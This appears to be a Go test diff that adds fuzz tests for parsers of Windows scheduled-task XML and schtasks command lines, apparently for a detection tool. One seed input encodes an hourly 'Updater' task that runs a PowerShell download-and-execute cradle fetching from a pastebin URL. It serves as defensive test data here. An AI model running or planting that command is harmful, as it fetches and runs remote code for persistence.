@@ -216,3 +216,38 @@ func FuzzRetrieval(f *testing.F) {
 		}
 	})
 }
+
+// FuzzParseTaskXML: any TaskContent value gives a task with an action or
+// an error wrapping ErrTask, never a panic.
+func FuzzParseTaskXML(f *testing.F) {
+	f.Add([]byte(taskXMLFor(`CORP\jdoe`, `\Updater`, hourly, "true", "powershell.exe", `-c "iex(iwr https://pastebin.com/raw/a)"`)))
+	f.Add([]byte(`&lt;Task&gt;&lt;Actions&gt;&lt;Exec&gt;&lt;Command&gt;x&lt;/Command&gt;&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;`))
+	f.Add([]byte(`<Task><Triggers><TimeTrigger><Repetition><Interval>P1DT0.5H</Interval></Repetition></TimeTrigger></Triggers></Task>`))
+	f.Fuzz(func(t *testing.T, content []byte) {
+		task, err := ParseTaskXML(content)
+		if err != nil {
+			if !errors.Is(err, ErrTask) {
+				t.Fatalf("error does not wrap ErrTask: %v", err)
+			}
+			return
+		}
+		if task.Command == "" || task.Every < 0 {
+			t.Fatalf("task without an action or with a negative interval: %+v", task)
+		}
+	})
+}
+
+// FuzzParseSchtasks: a creation always names its action.
+func FuzzParseSchtasks(f *testing.F) {
+	f.Add([]byte(`schtasks /create /tn "\x" /tr "\"C:\a b\c.exe\" -x" /sc minute /mo 5 /ri 3`))
+	f.Add([]byte(`schtasks -create -tr \\\"x -sc hourly -mo -1`))
+	f.Fuzz(func(t *testing.T, cmd []byte) {
+		task, ok := ParseSchtasks(cmd)
+		if ok && (task.Command == "" || task.Every < 0) {
+			t.Fatalf("%+v", task)
+		}
+		if !ok && task != (Task{}) {
+			t.Fatalf("no task but %+v", task)
+		}
+	})
+}
